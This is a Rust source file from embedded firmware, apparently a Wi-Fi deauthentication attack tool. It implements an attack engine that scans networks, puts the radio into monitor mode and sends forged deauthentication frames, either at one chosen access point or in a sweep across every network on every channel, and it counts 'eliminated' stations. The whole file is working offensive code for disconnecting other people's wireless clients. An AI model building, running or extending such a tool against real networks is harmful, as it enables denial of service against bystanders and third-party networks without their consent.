/// Attack lifecycle: Idle → SingleTarget / BroadcastSweep → Idle.
///
/// [`AttackEngine`] is the only owner of attack state. It drives the radio
/// controller and the capture pipeline, and it keeps two invariants:
///
/// - The control surface only serves while the radio is in the control
///   plane role. It is suspended before monitor mode is entered and resumed
///   only after the control plane is back.
/// - The capture session is installed before the capture callback is
///   registered and torn down only after it is deregistered and drained.
///   The callback never sees a half-built or half-torn-down attack.
///
/// Every operation takes `&mut self` on the control loop, so a `status()`
/// reader can never see the middle of a transition.
use embedded_hal::delay::DelayNs;

use crate::capture::{CapturePipeline, CaptureSession};
use crate::channel::ChannelWalker;
use crate::config::EngineConfig;
use crate::error::{AttackError, RadioFault};
use crate::frame::{build_deauth, DeauthFrame, MacAddr};
use crate::radio::{CaptureFilter, Radio, RadioController, RadioMode};
use crate::scan::{NetworkRecord, NetworkScanner, ScanGeneration, ScanList};

/// How targets are chosen.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackMode {
    /// One network from the current scan, on its channel.
    Single,
    /// Every network on every channel.
    Broadcast,
}

impl AttackMode {
    pub fn as_str(&self) -> &'static str {
        match self {
            AttackMode::Single => "single",
            AttackMode::Broadcast => "all",
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttackState {
    Idle,
    SingleTarget,
    BroadcastSweep,
}

impl AttackState {
    pub fn as_str(&self) -> &'static str {
        match self {
            AttackState::Idle => "idle",
            AttackState::SingleTarget => "single",
            AttackState::BroadcastSweep => "sweep",
        }
    }

    pub fn is_active(&self) -> bool {
        *self != AttackState::Idle
    }
}

/// Whether the radio-borne control surface may serve requests.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum SurfaceAvailability {
    Serving,
    Suspended,
}

impl SurfaceAvailability {
    pub fn as_str(&self) -> &'static str {
        match self {
            SurfaceAvailability::Serving => "serving",
            SurfaceAvailability::Suspended => "suspended",
        }
    }
}

/// Snapshot for display.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Status {
    pub state: AttackState,
    pub eliminated: u32,
    pub channel: u8,
    pub radio: Option<RadioMode>,
    pub surface: SurfaceAvailability,
    pub tx_errors: u32,
    pub scan_generation: u32,
    pub networks: usize,
}

pub struct AttackEngine<'p, R, D> {
    radio: RadioController<R, D>,
    capture: &'p CapturePipeline,
    config: EngineConfig,
    scan: ScanGeneration,
    state: AttackState,
    template: Option<DeauthFrame>,
    walker: ChannelWalker,
    surface: SurfaceAvailability,
}

impl<'p, R: Radio, D: DelayNs> AttackEngine<'p, R, D> {
    /// Build an engine around a radio that is not up yet. Call
    /// [`bring_up`](Self::bring_up) before serving requests.
    pub fn new(radio: R, delay: D, capture: &'p CapturePipeline, config: EngineConfig) -> Self {
        Self {
            radio: RadioController::new(radio, delay, config.settle_ms),
            capture,
            config,
            scan: ScanGeneration::empty(),
            state: AttackState::Idle,
            template: None,
            walker: ChannelWalker::new(),
            surface: SurfaceAvailability::Suspended,
        }
    }

    /// Enter the control-plane role and open the control surface.
    pub fn bring_up(&mut self) -> Result<(), AttackError> {
        self.radio.enter_control_plane()?;
        self.surface = SurfaceAvailability::Serving;
        log::info!("Control plane up");
        Ok(())
    }

    pub fn state(&self) -> AttackState {
        self.state
    }

    pub fn surface(&self) -> SurfaceAvailability {
        self.surface
    }

    pub fn config(&self) -> &EngineConfig {
        &self.config
    }

    /// Active single-target frame template; `None` while idle and while
    /// sweeping, where every frame is built from captured traffic.
    pub fn template(&self) -> Option<&DeauthFrame> {
        self.template.as_ref()
    }

    pub fn scan(&self) -> &ScanGeneration {
        &self.scan
    }

    pub fn networks(&self) -> &[NetworkRecord] {
        self.scan.networks()
    }

    pub fn radio(&self) -> &RadioController<R, D> {
        &self.radio
    }

    pub fn radio_mut(&mut self) -> &mut RadioController<R, D> {
        &mut self.radio
    }

    pub fn status(&self) -> Status {
        Status {
            state: self.state,
            eliminated: self.capture.eliminated(),
            channel: self.radio.channel(),
            radio: self.radio.mode(),
            surface: self.surface,
            tx_errors: self.capture.tx_errors(),
            scan_generation: self.scan.id(),
            networks: self.scan.len(),
        }
    }

    /// Replace the scan results with a fresh generation. Returns its id.
    pub fn install_scan(&mut self, networks: ScanList) -> u32 {
        self.scan = self.scan.succeed(networks);
        log::info!(
            "Scan generation {} installed: {} networks",
            self.scan.id(),
            self.scan.len()
        );
        self.scan.id()
    }

    /// Run the driver's scan and install the result as a new generation.
    /// Scanning needs the control-plane role, so it is refused mid-attack.
    pub fn rescan(&mut self) -> Result<u32, AttackError>
    where
        R: NetworkScanner,
    {
        if self.state.is_active() {
            return Err(AttackError::AttackActive);
        }
        let networks = self.radio.radio_mut().perform_scan()?;
        Ok(self.install_scan(networks))
    }

    /// Start an attack. An attack already running is fully stopped first.
    ///
    /// Entering monitor mode drops the operator access point; clients of the
    /// control surface lose their connection until the attack is stopped.
    pub fn start(&mut self, target: Option<u32>, mode: AttackMode, reason: u16) -> Result<(), AttackError> {
        if self.state.is_active() {
            log::info!("Reconfiguring: stopping {} attack first", self.state.as_str());
            self.stop()?;
        }

        match mode {
            AttackMode::Single => self.start_single(target, reason),
            AttackMode::Broadcast => self.start_sweep(reason),
        }
    }

    fn start_single(&mut self, target: Option<u32>, reason: u16) -> Result<(), AttackError> {
        let record = target.and_then(|index| self.scan.get(index));
        let Some(record) = record else {
            let err = AttackError::InvalidTarget {
                index: target,
                generation: self.scan.id(),
                available: self.scan.len(),
            };
            log::warn!("Refusing single attack: {}", err);
            self.ensure_control_plane();
            return Err(err);
        };
        let (bssid, channel) = (record.bssid, record.channel);

        let template = build_deauth(reason, MacAddr::BROADCAST, bssid, bssid);
        log::info!(
            "Starting single attack on {} ch {} reason {}",
            bssid,
            channel,
            reason
        );

        self.suspend_surface();
        if let Err(fault) = self.enter_attack(channel, CaptureSession::single(template, self.config.burst_len())) {
            return Err(self.abort(fault));
        }

        self.template = Some(template);
        self.state = AttackState::SingleTarget;
        Ok(())
    }

    fn start_sweep(&mut self, reason: u16) -> Result<(), AttackError> {
        log::info!("Starting sweep of all networks, reason {}", reason);

        self.suspend_surface();
        self.walker.reset();
        let first = self.walker.current();
        if let Err(fault) = self.enter_attack(first, CaptureSession::sweep(reason, self.config.burst_len())) {
            return Err(self.abort(fault));
        }

        self.template = None;
        self.state = AttackState::BroadcastSweep;
        Ok(())
    }

    /// Monitor mode, channel, then capture. The session is installed
    /// before the callback is registered.
    fn enter_attack(&mut self, channel: u8, session: CaptureSession) -> Result<(), RadioFault> {
        self.radio.enter_monitor()?;
        // A role change retunes the radio, so the channel goes on afterwards
        self.radio.set_channel(channel)?;
        self.capture.activate(session);
        self.radio.register_capture(CaptureFilter::MGMT_AND_DATA)
    }

    /// Stop the running attack and restore the control plane. No-op when
    /// idle.
    ///
    /// Capture is deregistered and drained before the counter is reset and
    /// before the radio leaves monitor mode. The engine is `Idle` on return
    /// even when the radio refuses to bring the control plane back; that
    /// fault is returned and the surface stays suspended.
    pub fn stop(&mut self) -> Result<(), AttackError> {
        if !self.state.is_active() {
            return Ok(());
        }
        log::info!(
            "Stopping {} attack after {} stations",
            self.state.as_str(),
            self.capture.eliminated()
        );

        let unregistered = self.radio.unregister_capture();
        self.capture.deactivate();
        self.capture.reset_counters();
        self.template = None;
        self.state = AttackState::Idle;

        if let Err(fault) = unregistered {
            // Tearing the role down below drops the callback anyway
            log::warn!("Capture deregistration refused: {}", fault);
        }

        self.radio.enter_control_plane().map_err(|fault| {
            log::error!("Control plane restore failed: {}", fault);
            AttackError::from(fault)
        })?;
        self.surface = SurfaceAvailability::Serving;
        log::info!("Attack stopped, control plane restored");
        Ok(())
    }

    /// Advance the sweep by one channel. Does nothing unless sweeping.
    /// Returns the channel now tuned.
    pub fn tick(&mut self) -> Result<Option<u8>, AttackError> {
        if self.state != AttackState::BroadcastSweep {
            return Ok(None);
        }
        match self.walker.tick(&mut self.radio) {
            Ok(channel) => Ok(Some(channel)),
            Err(fault) => Err(self.abort(fault)),
        }
    }

    fn suspend_surface(&mut self) {
        if self.surface == SurfaceAvailability::Serving {
            log::info!("Suspending control surface");
        }
        self.surface = SurfaceAvailability::Suspended;
    }

    fn ensure_control_plane(&mut self) {
        if self.radio.mode() == Some(RadioMode::ControlPlane) {
            return;
        }
        match self.radio.enter_control_plane() {
            Ok(()) => self.surface = SurfaceAvailability::Serving,
            Err(fault) => log::error!("Control plane restore failed: {}", fault),
        }
    }

    /// Fault fallback: drop capture, force Idle, make one attempt at the
    /// control plane.
    fn abort(&mut self, fault: RadioFault) -> AttackError {
        log::warn!("Radio fault, returning to idle: {}", fault);
        if let Err(unregister) = self.radio.unregister_capture() {
            log::warn!("Capture deregistration refused: {}", unregister);
        }
        self.capture.deactivate();
        self.capture.reset_counters();
        self.template = None;
        self.state = AttackState::Idle;
        self.ensure_control_plane();
        AttackError::RadioFault(fault)
    }
}
